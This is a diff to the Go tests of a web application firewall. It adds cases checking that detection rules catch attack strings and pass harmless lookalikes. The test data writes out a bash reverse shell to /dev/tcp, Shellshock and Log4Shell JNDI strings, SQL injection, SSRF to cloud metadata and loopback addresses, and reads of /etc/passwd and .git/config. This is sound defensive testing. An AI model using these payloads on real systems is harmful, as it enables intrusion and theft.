@@ -25,7 +25,11 @@ func matched(in waf.Input) []string {
 }
 
 func json(text string) waf.Input {
-	return waf.Input{Mode: weir.Enforce, Method: "POST", Path: "/", Header: http.Header{"Content-Type": {"application/json"}}, Body: []byte(`{"a":"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\t", `\t`).Replace(text) + `"}`)}
+	return body(`{"a":"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\t", `\t`).Replace(text) + `"}`)
+}
+
+func body(json string) waf.Input {
+	return waf.Input{Mode: weir.Enforce, Method: "POST", Path: "/", Header: http.Header{"Content-Type": {"application/json"}}, Body: []byte(json)}
 }
 
 // Every signature at its edge: what it must see, and what looks like it and is not.
@@ -36,7 +40,9 @@ func TestSignatures(t *testing.T) {
 	}{
 		{"lfi", []string{"/etc/passwd", "x/../etc/shadow", "/proc/self/environ"}, []string{"etcpasswd", "/etc/nginx", "passwd"}},
 		{"jndi", []string{"${jndi:ldap://x}", "${${lower:j}ndi:x}", "a ${JNDI:dns:x}"}, []string{"${name}", "jndi:x", "$jndi"}},
-		{"java", []string{"java.lang.Runtime", "Runtime.getRuntime"}, []string{"java island", "a runtime error"}},
+		{"java", []string{"java.lang.Runtime", "Runtime.getRuntime", "T(java.lang.Thread)", "java.lang.String(a)", "java.lang.Errors"},
+			[]string{"java island", "a runtime error", "java.lang.NullPointerException: it's null", "at java.base/java.lang.Thread.run(Thread.java:829)",
+				"java.lang.reflect.Method.invoke(Unknown Source)", "java.lang.Error"}},
 		{"java_object", []string{"rO0ABXNyABFq"}, []string{"xrO0ABXN it's"}},
 		{"ssrf_metadata", []string{"http://169.254.169.254/latest", "see metadata.google.internal"}, []string{"169.254.1.1", "it's metadata"}},
 		{"ssrf_scheme", []string{"file:///etc", "gopher://x", "dict://x:1"}, []string{"profile://x it's", "file: x", "https://x.test"}},
@@ -55,7 +61,7 @@ func TestSignatures(t *testing.T) {
 		{"sqli_union", []string{"union all select 1", "UNION/**/SELECT/**/null", "union (select a from b)"},
 			[]string{"Western Union Select Services", "the union will select members", "reunion select 1"}},
 		{"sqli_stacked", []string{"x; DROP TABLE users", "1;insert into a", "1; update a set b = 1", "1;select(1)"}, []string{"buy; drop us a line", "wash; update the list", "dropped; tables"}},
-		{"shell", []string{"bash -i >& /dev/tcp/1.2.3.4/1", "a;cat${IFS}b", "() { :;}; x", "/bin/sh x"}, []string{"/dev/null it's", "bin/ship"}},
+		{"shell", []string{"bash -i >& /dev/tcp/1.2.3.4/1", "a;cat${IFS}b", "() { :;}; x", " (){ x", "/bin/sh x"}, []string{"/dev/null it's", "bin/ship", "function test() {\n}", "it's a(){}"}},
 		{"powershell", []string{"powershell -enc SQBFAFgA", "pwsh -c x", "powershell.exe /c"}, []string{"powershell is a shell", "powershell - a shell"}},
 		{"command", []string{"1;cat /x", "1 | id", "x && curl http://y", "`whoami`", "$(id)", "a\nls -la", "nc -e /bin/x", "1; /usr/bin/id", "; ping 127.0.0.1", "x|sort|uniq", "a; c'a't /b"},
 			[]string{"milk; cat food", "he and she; id est", "Tom & cat", "(cat)", "| who goes there", "find - and keep", "$(unknown)", "a\nmore to come", "; sort it out", "type; test"}},
@@ -104,7 +110,11 @@ func TestParts(t *testing.T) {
 		{get("/", "", "Cookie", "a=1; b=1' or '1'='1"), "sqli"}, {get("/", "", "User-Agent", "sqlmap/1.7"), "scanner"}, {get("/", "", "User-Agent", "() { :;}; x"), "shell"},
 		{get("/", "", "X-Any", "${jndi:ldap://x}"), "jndi"}, {get("/", "", "Referer", "https://a/?q='><script>x"), "xss_tag"},
 		{get("/", "", "X-Middleware-Subrequest", "middleware"), "middleware_subrequest"}, {get("/", "", "Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"), "range"},
+		{get("/a.pdf", "", "Range", "bytes=0-1"+strings.Repeat(",2-3", 62)), "range"},
 		{waf.Input{Mode: weir.Enforce, Method: "TRACE", Path: "/"}, "method"},
+		{get("/repo.git/.git/config", ""), "lfi"}, {get("/", "f=C:.git/config"), "lfi"},
+		{get("/", "redirect_uri=http://127.1/"), "ssrf_loopback"}, {get("/", "redirect_uri=http://169.254.169.254/"), "ssrf_metadata"}, {get("/", "url=http://127.0.0.1:80/"), "ssrf_loopback"},
+		{get("/", "redirect_uri=x+http://127.0.0.1:80/"), "ssrf_loopback"},
 		{upload("x.php"), "upload_script"}, {upload("x.php.png"), "upload_script"}, {upload("x.PHP . "), "upload_script"}, {upload("../x.png"), "upload_path"}, {upload("<img src=x onerror=y>.png"), "xss"},
 	} {
 		if got := matched(test.in); !slices.Contains(got, test.rule) {
@@ -115,7 +125,12 @@ func TestParts(t *testing.T) {
 		get("/", ""), get("/.well-known/a", ""), get("/a..b/c", ""), get("/v1/a.b/1.2.3", ""), get("/environment", ""), get("/sql", ""), get("/bl%C3%A5b%C3%A6r", ""),
 		get("/", "a=1%0a2"), get("/", "a=From:%0aTo"), get("/", "filter[a]=1&q=O%27Reilly"), get("/", "", "Cookie", "a=%5B%22x%22%5D; b=eyJ.x.y--z"),
 		get("/", "", "Range", "bytes=0-1,2-3"), get("/", "", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) it's"), get("/", "", "If-Match", `"a--b"`),
-		upload("l'avion.png"), upload("a..b.png"), upload("php.png"), upload(""),
+		get("/a.PDF", "", "Range", "bytes=0-1"+strings.Repeat(",2-3", 61)), // readers of PDF (coreruleset#499)
+		get("/repo.git/HEAD", ""), get("/team/repo.git/config", ""),
+		get("/authorize", "redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcb"), get("/authorize", "redirect_uri=http://[::1]:51004/"), // fastapi-guard#131
+		get("/login", "next=%2Fauthorize%3Fredirect_uri%3Dhttp%253A%252F%252F127.0.0.1%253A51004%252Fcb"),
+		body(`{"redirect_uris":["http://127.0.0.1:8910/cb"],"client":{"post_logout_redirect_uris":["http://[::1]:1/"]}}`),
+		upload("l'avion.png"), upload("server.cer"), upload("a..b.png"), upload("php.png"), upload(""),
 	} {
 		if got := matched(in); got != nil {
 			t.Errorf("%s?%s %v: got %v", in.Path, in.Query, in.Header, got)
